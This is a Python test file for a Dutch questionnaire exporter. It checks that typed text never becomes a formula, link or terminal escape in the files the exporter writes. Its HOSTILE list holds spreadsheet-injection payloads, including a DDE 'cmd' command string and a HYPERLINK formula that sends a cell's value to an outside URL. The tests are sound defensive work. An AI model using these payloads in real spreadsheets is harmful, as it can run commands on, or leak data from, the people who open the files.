"""Whatever somebody typed is never a formula or a link in a file that we write."""

import csv
import io
import json
import re
from pathlib import Path
from zipfile import ZipFile

import openpyxl
import pytest
from conftest import Command
from limesurvey import imported

from dilemmakaart.journeys.questionnaire import ENDINGS, IN_ROWS

HOSTILE = [
    '=HYPERLINK("https://example.org/?x="&A1;"klik")',
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(A1:A9)",
    "https://example.org/klik",
    "{=1+1}",
]
STARTS = ("=", "+", "-", "@", "\t", "\r")
NUMBER = re.compile(r"[+-]?[0-9]+")
OURS = re.compile(r"[+-]?[0-9] · |[+-]?[0-9]$")
"""What our own labels begin with: a position on the scale."""

WORKBOOKS = [
    *(("--to", name) for name, ending in ENDINGS.items() if ending.endswith(".xlsx")),
    *(("--to", name, "--rows") for name in IN_ROWS),
]


@pytest.fixture(params=HOSTILE)
def typed(request: pytest.FixtureRequest, network: Path) -> str:
    """Let somebody type it as every text of a network and of a dilemma."""
    words = str(request.param)
    text = json.dumps(words)
    (network / "dilemmas").mkdir()
    (network / "dilemmas" / "1-eigen.yaml").write_text(
        "kind: dilemma\nid: eigen\ncode: ei1\nlevel: within-subgroup\nnumber: 9\n"
        f"question: {text}\npoles:\n  a: {{name: {text}}}\n  b: {{name: gewoon}}\n",
        encoding="utf-8",
    )
    (network / "netwerk.yaml").write_text(
        f"kind: network\nid: eigen\nname: {text}\ndilemmas: [eigen]\nbackground:\n"
        f"  - {{id: sector, question: {text}, options: {{een: {text}, twee: Twee}}}}\n",
        encoding="utf-8",
    )
    return words


def written(command: Command, network: Path, *options: str) -> bytes:
    """Write a questionnaire and return it."""
    target = network / "geschreven"
    ended = command(["questionnaire", network, *options, "--output", target])
    assert ended.code == 0, ended.err
    return target.read_bytes()


@pytest.mark.parametrize("options", WORKBOOKS, ids=" ".join)
def test_a_workbook_holds_no_formula_and_no_link(
    command: Command, network: Path, typed: str, options: tuple[str, ...]
) -> None:
    with ZipFile(io.BytesIO(written(command, network, *options))) as book:
        parts = {name: book.read(name).decode() for name in book.namelist()}

    assert all("hyperlink" not in name and "externalLink" not in name for name in parts)
    for name, part in parts.items():
        assert not re.search(r"<f[ >/]|<hyperlink|TargetMode=\"External\"", part), (name, typed)
        for source in re.findall(r"<formula1>(.*?)</formula1>", part):
            assert re.fullmatch(r"lists!\$[A-Z]+\$1:\$[A-Z]+\$[0-9]+", source)


@pytest.mark.parametrize("options", WORKBOOKS, ids=" ".join)
def test_a_workbook_shows_it_as_it_was_typed(
    command: Command, network: Path, typed: str, options: tuple[str, ...]
) -> None:
    book = openpyxl.load_workbook(io.BytesIO(written(command, network, *options)))

    filled = [cell for sheet in book for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert {cell.data_type for cell in filled} == {"s"}
    assert typed in {str(cell.value) for cell in filled}


@pytest.mark.parametrize("options", [each for each in WORKBOOKS if each[1] == "xlsx"], ids=" ".join)
def test_a_cell_that_is_filled_in_takes_what_is_typed_as_text(
    command: Command, network: Path, options: tuple[str, ...]
) -> None:
    sheet = openpyxl.load_workbook(io.BytesIO(written(command, network, *options))).worksheets[0]
    cells = [cell for row in sheet.iter_rows() for cell in row] if sheet.protection.sheet else []
    open_cells = [cell for cell in cells if not cell.protection.locked]
    columns = [each for each in sheet.column_dimensions.values() if not each.hidden]

    formats = [cell.number_format for cell in open_cells] or [each.number_format for each in columns]
    assert formats
    assert set(formats) == {"@"}


def test_the_table_holds_only_codes_and_ids(command: Command, network: Path, typed: str) -> None:
    content = written(command, network, "--to", "csv").decode("utf-8-sig")

    cells = [cell for row in csv.reader(io.StringIO(content), delimiter=";") for cell in row]
    assert cells == ["sector", "ei1_nu", "ei1_gewenst", "ei1_spanning", "ei1_toelichting"]
    assert typed not in content


def test_a_survey_for_limesurvey_that_is_opened_in_excel_computes_nothing(
    command: Command, network: Path, typed: str
) -> None:
    raw = written(command, network, "--to", "limesurvey")

    cells = [cell for row in imported(raw) for cell in row.values()]
    suspect = [cell for cell in cells if cell.startswith(STARTS) and not NUMBER.fullmatch(cell)]
    assert not suspect, typed


def test_text_for_forms_has_no_line_that_a_sheet_would_compute(
    command: Command, network: Path, typed: str
) -> None:
    content = written(command, network, "--to", "forms").decode("utf-8-sig")

    questions = [line for line in content.splitlines() if typed in line and not OURS.match(line)]
    heads = [line for line in questions if line != typed]
    assert heads
    assert not [line for line in heads if line.startswith(STARTS)]


def test_a_long_name_full_of_ampersands_steers_no_footer(command: Command, network: Path) -> None:
    path = network / "netwerk.yaml"
    name = "a" + "&" * 150
    path.write_text(re.sub(r"(?m)^name: .*$", f'name: "{name}"', path.read_text("utf-8")), encoding="utf-8")

    sheet = openpyxl.load_workbook(io.BytesIO(written(command, network, "--to", "xlsx"))).worksheets[0]

    left = str(sheet.oddFooter.left.text)
    assert re.fullmatch(r"[^&]*(?:&&)+", left)
    assert str(sheet.oddFooter.right.text).startswith("Pagina ")


def test_a_remark_that_looks_like_a_formula_markup_or_a_command_of_a_terminal_is_shown_as_text(
    command: Command, network: Path
) -> None:
    remark = "=1+1 [bold]dik[/bold] <b>dik</b> **dik** \x1b[31mrood"
    answers = network / "een.csv"
    with answers.open("w", encoding="utf-8", newline="") as file:
        csv.writer(file).writerows([["bs1_nu", "bs1_toelichting"], *([["1", remark]] * 5)])

    ended = command(["assess", network, answers, "--remarks", "--color", "always"])

    assert ended.code == 0, ended.err
    assert "\x1b[31mrood" not in ended.out
    assert "=1+1 [bold]dik[/bold] <b>dik</b> **dik** \ufffd[31mrood" in re.sub(r"\s*\n\s*", " ", ended.out)
